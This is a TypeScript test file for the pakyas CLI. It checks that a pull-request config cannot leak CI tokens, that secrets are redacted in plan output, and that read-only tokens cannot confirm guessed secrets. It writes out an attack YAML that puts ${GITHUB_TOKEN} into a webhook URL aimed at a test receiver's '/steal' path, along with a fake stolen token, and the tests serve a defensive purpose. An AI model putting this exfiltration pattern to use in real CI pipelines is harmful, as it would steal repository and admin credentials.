// The attack: a pull request changes pakyas.yaml so that a channel reads a variable of the CI job
// that plans it (PAKYAS_TOKEN, GITHUB_TOKEN), into a setting the plan comment prints or a test
// alert sends. Performed here as CI would: the built CLI as a process, against a real server.
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { RunningServer } from '../server/main.js';
import { runCli, type CliResult } from './helpers/cli.js';
import { startReceiver, type Receiver } from './helpers/receiver.js';
import { ADMIN, adminClient, backends, cleanUp, startTestServer, uniqueProject } from './helpers/server.js';

const GITHUB_TOKEN = 'ghp_stolen0123456789abcdefghijklmnopqr';

function fileWith(text: string): string {
  const file = join(mkdtempSync(join(tmpdir(), 'pakyas-env-')), 'pakyas.yaml');
  writeFileSync(file, text);
  return file;
}

const everything = (r: CliResult) => `${r.stdout}\n${r.stderr}`;

describe.each(backends)('variables a pull request cannot read, on %s', (backend) => {
  let server: RunningServer;
  let receiver: Receiver;
  beforeAll(async () => {
    server = await startTestServer(backend);
    receiver = await startReceiver();
  });
  afterAll(async () => {
    await receiver?.close();
    await server?.close();
    await cleanUp();
  });

  // PAKYAS_TOKEN is the admin token here: the worst a CI job could hold.
  const ci = (extra: Record<string, string> = {}) => ({ PAKYAS_SERVER: server.url, PAKYAS_TOKEN: ADMIN, GITHUB_TOKEN, ...extra });

  const attack = (project: string) => `version: 1
project: ${project}
channels:
  hook:
    type: webhook
    url: ${receiver.url}/steal?t=\${GITHUB_TOKEN}
  ops:
    type: slack
    webhook_url: ${receiver.url}/slack
    channel: \${PAKYAS_TOKEN}
routes:
  - match: { job: "*" }
    notify: [hook, ops]
`;

  it('refuses a file that reads the CI job\'s tokens: plan and alert test exit 1 at the line, print no token and send nothing', async () => {
    const file = fileWith(attack(uniqueProject('attack')));
    const urlError = `${file}:6:10: channels.hook.url: \${GITHUB_TOKEN} reads a variable not named PAKYAS_SECRET_*; rename it PAKYAS_SECRET_GITHUB_TOKEN or pass --allow-env GITHUB_TOKEN`;
    const channelError = `${file}:10:14: channels.ops.channel: \${PAKYAS_TOKEN} is not read here: \${…} variables are read only in secret settings, which for a slack channel is webhook_url; write the value itself here`;

    const runs = [
      await runCli(['plan', '-f', file, '--format', 'markdown'], { env: ci() }),
      await runCli(['alert', 'test', 'hook', '-f', file], { env: ci() }),
      await runCli(['alert', 'test', 'ops', '-f', file], { env: ci() }),
    ];
    for (const r of runs) {
      expect(r.code).toBe(1);
      expect(r.stderr).toContain(`${urlError}\n${channelError}\n${file} is not valid; nothing was sent to the server.`);
      expect(everything(r)).not.toContain(GITHUB_TOKEN);
      expect(everything(r)).not.toContain(ADMIN);
    }
    const validate = await runCli(['validate', '-f', file], { env: ci() });
    expect(validate.code).toBe(1);
    expect(validate.stdout).toBe(`${urlError}\n${channelError}\n`);

    // The receiver is reachable, so nothing arriving means nothing was sent.
    const probe = fileWith(`version: 1\nproject: ${uniqueProject()}\nchannels:\n  hook:\n    type: webhook\n    url: ${receiver.url}/probe?t=\${PAKYAS_SECRET_PROBE}\n`);
    expect(receiver.arrived()).toBe(0);
    const sent = await runCli(['alert', 'test', 'hook', '-f', probe], { env: ci({ PAKYAS_SECRET_PROBE: 'p' }) });
    expect(everything(sent)).toContain('test alert sent to hook (webhook)');
    expect(receiver.received.map((r) => r.path)).toEqual(['/probe?t=p']);
  });

  it('reads a name the CI job allows for a secret setting, and redacts its value in text, markdown and JSON plans', async () => {
    const project = uniqueProject('allowed');
    const allow = ['--allow-env', 'GITHUB_TOKEN'];
    // Allowing a name opens only the secret settings: the Slack channel name still cannot read it.
    const attacked = await runCli(['plan', '-f', fileWith(attack(project)), ...allow], { env: ci() });
    expect(attacked.code).toBe(1);
    expect(attacked.stderr).not.toContain('reads a variable not named');
    expect(attacked.stderr).toContain('channels.ops.channel: ${PAKYAS_TOKEN} is not read here');

    const file = fileWith(`version: 1\nproject: ${project}\nchannels:\n  hook:\n    type: webhook\n    url: https://hooks.example.com/in?t=\${GITHUB_TOKEN}\n`);
    expect((await runCli(['validate', '-f', file, ...allow])).code).toBe(0);
    const text = await runCli(['plan', '-f', file, ...allow], { env: ci() });
    const markdown = await runCli(['plan', '-f', file, '--format', 'markdown', ...allow], { env: ci() });
    const json = await runCli(['plan', '-f', file, '--json', ...allow], { env: ci() });
    for (const r of [text, markdown, json]) {
      expect(r.code).toBe(2);
      expect(everything(r)).not.toContain(GITHUB_TOKEN);
      expect(everything(r)).not.toContain('hooks.example.com');
    }
    expect(text.stdout).toContain('  + channel hook\n      type: webhook\n      url: (secret)\n');
    expect(markdown.stdout).toContain('| + create | channel | `hook` | type: webhook<br>url: (secret) |');
    expect(JSON.parse(json.stdout).changes[0].fields).toEqual([
      { field: 'type', from: null, to: 'webhook' },
      { field: 'url', from: null, to: '(secret)', secret: true },
    ]);
    const applied = await runCli(['apply', '-f', file, '--json', ...allow], { env: ci() });
    expect(applied.code).toBe(0);
    expect(everything(applied)).not.toContain(GITHUB_TOKEN);
    expect(JSON.stringify(await adminClient(server).projects.revisions.query({ project }))).not.toContain(GITHUB_TOKEN);
  });

  it('hides the user-info and query string of an events_url, and reads a change in them as a secret change', async () => {
    const project = uniqueProject('gateway');
    const pd = (apikey: string) => `version: 1\nproject: ${project}\nchannels:\n  oncall:\n    type: pagerduty\n    routing_key: \${PAKYAS_SECRET_PD_KEY}\n    events_url: https://pd-user:pd-pass@gw.example.com/enqueue?apikey=${apikey}\n`;
    const file = fileWith(pd('APIKEY-ONE'));
    const env = ci({ PAKYAS_SECRET_PD_KEY: 'R0UT1NG-KEY' });
    const outputs: CliResult[] = [];
    for (const format of [[], ['--format', 'markdown'], ['--json']]) outputs.push(await runCli(['plan', '-f', file, ...format], { env }));
    expect(outputs[0]!.stdout).toContain('      routing_key: (secret)\n      events_url: https://(secret)@gw.example.com/enqueue?(secret)\n');
    expect(outputs[1]!.stdout).toContain('events_url: https://(secret)@gw.example.com/enqueue?(secret)');
    expect(JSON.parse(outputs[2]!.stdout).changes[0].fields).toContainEqual({ field: 'events_url', from: null, to: 'https://(secret)@gw.example.com/enqueue?(secret)', secret: true });
    expect((await runCli(['apply', '-f', file], { env })).code).toBe(0);

    writeFileSync(file, pd('APIKEY-TWO'));
    const changed = await runCli(['plan', '-f', file], { env });
    expect(changed.code).toBe(2);
    expect(changed.stdout).toContain('  ~ channel oncall\n      events_url changed (secret)\n');
    outputs.push(changed);
    for (const r of outputs) expect(everything(r)).not.toMatch(/APIKEY|pd-user|pd-pass|R0UT1NG/);
  });

  it('does not let a read-only token confirm a guessed secret through a plan', async () => {
    const project = uniqueProject('guess');
    const slack = (channel: string) => `version: 1\nproject: ${project}\nchannels:\n  ops:\n    type: slack\n    webhook_url: \${PAKYAS_SECRET_SLACK}\n    channel: "${channel}"\n`;
    const file = fileWith(slack('#ops'));
    const right = 'https://hooks.slack.com/services/T0/B0/RIGHT';
    const wrong = 'https://hooks.slack.com/services/T0/B0/WRONG';
    expect((await runCli(['apply', '-f', file], { env: ci({ PAKYAS_SECRET_SLACK: right }) })).code).toBe(0);
    const { token } = await adminClient(server).tokens.create.mutate({ project, readOnly: true });

    const plans = async (guess: string, as: string) => {
      const env = ci({ PAKYAS_SECRET_SLACK: guess, PAKYAS_TOKEN: as });
      const out: string[] = [];
      for (const format of [[], ['--format', 'markdown'], ['--json']]) {
        const r = await runCli(['plan', '-f', file, ...format], { env });
        out.push(`exit ${r.code}\n${everything(r)}`);
      }
      return out;
    };
    const note = 'Secret settings were not compared: this token is read-only';

    const sameChannel = await plans(right, token);
    expect(await plans(wrong, token)).toEqual(sameChannel);
    expect(sameChannel[0]).toContain(`exit 0\nNo changes: project ${project} matches ${file} (revision 1).\n${note}`);
    expect(sameChannel[1]).toContain(`_${note}`);
    expect(JSON.parse(sameChannel[2]!.replace(/^exit \d+\n/, ''))).toMatchObject({ changes: [], secretsCompared: false });

    writeFileSync(file, slack('#alerts'));
    const newChannel = await plans(right, token);
    expect(await plans(wrong, token)).toEqual(newChannel);
    expect(newChannel[0]).toContain('  ~ channel ops\n      channel #ops → #alerts\n      webhook_url (secret, not compared: this token is read-only)\n');
    expect(newChannel[1]).toContain('channel #ops → #alerts<br>webhook_url (secret, not compared: this token is read-only)');

    // A token that may write compares (it could apply the guess anyway).
    expect((await plans(wrong, ADMIN))[0]).toContain('      channel #ops → #alerts\n      webhook_url changed (secret)\n');
    expect((await plans(right, ADMIN))[0]).not.toContain('webhook_url');

    // Nor through the content hash of a revision, which takes in a hash of each secret.
    const { createClient } = await import('../cli/client.js');
    const [asReader] = await createClient({ server: server.url, token }).projects.revisions.query({ project });
    const [asAdmin] = await adminClient(server).projects.revisions.query({ project });
    expect(asReader!.contentHash).toBe(null);
    expect(asAdmin!.contentHash).toMatch(/^[0-9a-f]{64}$/);
  });
});
